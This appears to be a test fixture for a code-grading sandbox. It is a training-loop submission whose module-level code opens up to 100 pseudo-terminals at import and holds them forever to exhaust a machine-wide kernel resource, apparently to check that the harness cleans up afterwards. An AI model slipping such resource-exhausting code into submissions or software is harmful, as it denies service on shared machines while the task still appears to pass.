# EXPECT: ACCEPTED
# CHALLENGE: write-training-loop
# AFTER: no_processes, next_job_clean
# Open terminals: the kernel counts them, and their buffers, for the whole machine. Stays where it gets one.
import os, time

kept = []
try:
    while len(kept) < 100:
        kept.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
except OSError:
    pass
while kept:
    time.sleep(60)


def train_one_epoch(model, loader, loss_fn, optimizer):
    model.train()
    losses = []
    for inputs, targets in loader:
        optimizer.zero_grad()
        loss = loss_fn(model(inputs), targets)
        loss.backward()
        optimizer.step()
        losses.append(loss.item())
    return losses
